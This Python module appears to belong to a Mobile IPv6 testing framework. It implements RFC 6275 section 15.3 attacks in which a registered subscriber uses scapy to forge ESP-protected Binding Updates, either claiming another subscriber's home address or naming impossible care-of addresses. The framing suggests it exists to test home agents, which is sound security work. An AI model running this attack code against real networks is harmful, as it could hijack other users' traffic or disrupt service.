"""Attacks by a subscriber who is registered himself (RFC 6275 section 15.3)."""

from __future__ import annotations

from ipaddress import IPv6Address

from scapy.layers.inet6 import IPv6
from scapy.layers.ipsec import ESP, SecurityAssociation
from scapy.layers.l2 import Ether

from agents.ike.esp import Encryption, EspPair, EspSa, Integrity
from agents.nodes.attacker.attack import Attack, Frames
from agents.nodes.attacker.mobility import home_address_option, update

_CIPHERS = {Encryption.AES_CBC: "AES-CBC", Encryption.AES_GCM_16: "AES-GCM"}
_INTEGRITY = {
    Integrity.NONE: "NULL",
    Integrity.HMAC_SHA1_96: "HMAC-SHA1-96",
    Integrity.HMAC_SHA2_256_128: "SHA2-256-128",
    Integrity.HMAC_SHA2_384_192: "SHA2-384-192",
    Integrity.HMAC_SHA2_512_256: "SHA2-512-256",
}
_FIRST_NUMBER = 1000
"""Of the forged packets under an SA: above those of the subscriber's own kernel."""


class Registered(Attack):
    """The base: it bootstraps as any mobile node does, and then abuses its SA."""

    is_registered = False

    def registered(self, home_address: IPv6Address, pair: EspPair) -> None:
        """Take note of what the bootstrap has brought."""
        self.home_address, self._pair = home_address, pair
        self._number = _FIRST_NUMBER
        self.is_registered = True

    def _update(self, home_address: str, care_of: str) -> bytes:
        """Return a Binding Update under the own SA, for whatever home address."""
        known, sa = self.known, self._pair.outbound
        self._number += 1
        plain = IPv6(src=home_address, dst=known.home_agent) / update(care_of, self._number)
        sealed = _association(sa).encrypt(IPv6(bytes(plain)), seq_num=self._number)
        option = home_address_option(home_address)
        option.nh = sealed.nh
        return bytes(
            Ether(src=known.own.mac, dst=known.far.mac)
            / IPv6(src=known.own.address, dst=known.home_agent)
            / option
            / bytes(sealed[ESP])
        )


def _association(sa: EspSa) -> SecurityAssociation:
    return SecurityAssociation(
        ESP,
        spi=sa.spi,
        crypt_algo=_CIPHERS[sa.encryption],
        crypt_key=sa.encryption_key,
        auth_algo=_INTEGRITY[sa.integrity],
        auth_key=sa.integrity_key,
    )


class OthersHomeAddress(Registered):
    """Binding Updates under its own SA for another subscriber's home address."""

    def attack(self, now: float) -> Frames:  # noqa: ARG002
        """Send them."""
        self.told = "Binding Updates under its own SA, for another's home address"
        for _ in range(5):
            yield self._update(self.known.home_address, self.known.own.address)


class FalseCareOf(Registered):
    """Binding Updates of its own with an Alternate Care-of Address that cannot be."""

    def attack(self, now: float) -> Frames:  # noqa: ARG002
        """Send one for each: the home agent's own, the home link's, no host's."""
        known = self.known
        # Its own home address would be one: it takes the binding back (RFC 6275 section 9.5.1).
        false = (
            *(known.home_agent, known.core_address, known.home_address),
            *(f"{IPv6Address(known.home_agent) + 0xABC}", "::1", "::", "ff02::1", "fe80::1"),
            "::ffff:192.0.2.1",
        )
        self.told = f"{len(false)} care-of addresses that cannot be"
        for care_of in false:
            yield self._update(str(self.home_address), care_of)
